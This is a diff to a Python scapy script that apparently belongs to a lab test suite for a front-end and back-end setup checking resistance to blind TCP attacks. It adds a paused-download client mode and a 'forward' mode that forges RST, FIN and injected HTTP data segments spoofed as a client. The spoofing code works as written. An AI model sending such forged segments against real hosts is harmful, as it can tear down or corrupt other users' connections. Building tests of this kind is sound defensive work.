@@ -2,9 +2,18 @@
 """A blind attacker on one connection, with scapy, for tests/lab/blind.sh.
 
     blind.py peek CLIENT_PORT
-        (in the client's namespace) prints "SEQ ACK" of the next segment
-        the client sends from CLIENT_PORT to port 80: where its sequence
-        space is, for the offsets below.
+        (in the client's namespace) prints "ready" once listening, then
+        "SEQ ACK" from the first segment with data the client sends from
+        CLIENT_PORT to port 80 (its request): SEQ is the client's next
+        sequence number after it (a downloading client sends no more
+        data), ACK its acknowledgment then. Where the sequence spaces
+        are, for the offsets below.
+    blind.py fetch VIP PATH CLIENT_PORT PAUSE_AT GO_FILE
+        (in the client's namespace) GETs PATH from VIP:80 from
+        CLIENT_PORT; after PAUSE_AT bytes of body it stops reading (its
+        window closes, the connection stays open) and prints "paused",
+        until GO_FILE exists (at most 300 s); then reads the rest and
+        prints the body's sha256. Exits 1 if the connection fails.
     blind.py attack VIP CLIENT CLIENT_PORT SEQ ACK COUNT SECONDS
         (in the attacker's namespace) sends segments as CLIENT:CLIENT_PORT
         to VIP:80 until COUNT are sent or SECONDS pass: RSTs at offsets
@@ -14,15 +23,25 @@
         or more than a window old), then segments of each kind at random
         sequence and acknowledgment numbers. Prints "N spoofed segments in S s".
 
+    blind.py forward BACKEND CLIENT CLIENT_PORT SEQ COUNT
+        (in the attacker's namespace) sends COUNT segments as
+        CLIENT:CLIENT_PORT straight to BACKEND:80, as if the front-end
+        had forwarded them: RSTs at SEQ itself (which the back-end's
+        stack would take), data and FINs there. Prints "N forged
+        forwarded segments".
+
 RFC 5961 is what lets none of them end or corrupt the connection; a
 segment in the window with a good acknowledgment is the attack it leaves
 possible (2^-32 squared odds, blind), so none is sent here.
 """
+import hashlib
+import os
 import random
+import socket
 import sys
 import time
 
-from scapy.all import IP, TCP, conf, sniff
+from scapy.all import IP, TCP, conf
 
 conf.verb = 0
 
@@ -31,11 +50,47 @@ M32 = (1 << 32) - 1
 
 
 def peek(port):
-    p = sniff(iface="eth0", count=1, timeout=30,
-              lfilter=lambda p: TCP in p and p[TCP].sport == port and p[TCP].dport == 80)
-    if not p:
-        sys.exit("no segment from the client seen")
-    print(p[0][TCP].seq, p[0][TCP].ack)
+    listen = conf.L2listen(iface="eth0")
+    print("ready", flush=True)
+    end = time.monotonic() + 60
+    while time.monotonic() < end:
+        p = listen.recv()
+        if (p is not None and TCP in p and p[TCP].sport == port and p[TCP].dport == 80
+                and len(p[TCP].payload) > 0):
+            print((p[TCP].seq + len(p[TCP].payload)) & M32, p[TCP].ack, flush=True)
+            return
+    sys.exit("no request from the client seen")
+
+
+def fetch(vip, path, port, pause_at, go_file):
+    s = socket.socket()
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 256 * 1024)
+    s.bind(("", port))
+    s.settimeout(120)
+    s.connect((vip, 80))
+    s.sendall(f"GET {path} HTTP/1.1\r\nHost: {vip}\r\nConnection: close\r\n\r\n".encode())
+    buf = b""
+    while b"\r\n\r\n" not in buf:
+        chunk = s.recv(65536)
+        if not chunk:
+            sys.exit("closed before the response head")
+        buf += chunk
+    body = buf.split(b"\r\n\r\n", 1)[1]
+    digest, got, paused = hashlib.sha256(body), len(body), False
+    while True:
+        if not paused and got >= pause_at:
+            print("paused", flush=True)
+            end = time.monotonic() + 300
+            while not os.path.exists(go_file) and time.monotonic() < end:
+                time.sleep(0.2)
+            paused = True
+        chunk = s.recv(min(65536, max(1, pause_at - got)) if not paused else 65536)
+        if not chunk:
+            break
+        digest.update(chunk)
+        got += len(chunk)
+    print(digest.hexdigest(), flush=True)
 
 
 def segments(client, port, vip, seq, ack):
@@ -72,9 +127,28 @@ def attack(vip, client, port, seq, ack, count, seconds):
     print(sent, "spoofed segments in", round(time.monotonic() - end + seconds, 1), "s")
 
 
+def forward(backend, client, port, seq, count):
+    base = IP(src=client, dst=backend)
+    kinds = [TCP(sport=port, dport=80, flags="R", seq=seq),
+             TCP(sport=port, dport=80, flags="RA", seq=seq, ack=random.getrandbits(32)),
+             TCP(sport=port, dport=80, flags="PA", seq=seq,
+                 ack=random.getrandbits(32)) / b"GET /evil HTTP/1.1\r\n\r\n",
+             TCP(sport=port, dport=80, flags="FA", seq=seq, ack=random.getrandbits(32))]
+    sock = conf.L3socket()
+    for i in range(count):
+        sock.send(base / kinds[i % len(kinds)])
+    print(count, "forged forwarded segments")
+
+
 if __name__ == "__main__":
     if sys.argv[1] == "peek":
         peek(int(sys.argv[2]))
+    elif sys.argv[1] == "fetch":
+        v, path, p, at, go = sys.argv[2:7]
+        fetch(v, path, int(p), int(at), go)
+    elif sys.argv[1] == "forward":
+        b, c, p, s, n = sys.argv[2:7]
+        forward(b, c, int(p), int(s), int(n))
     else:
         v, c, p, s, a, n, t = sys.argv[2:9]
         attack(v, c, int(p), int(s), int(a), int(n), float(t))
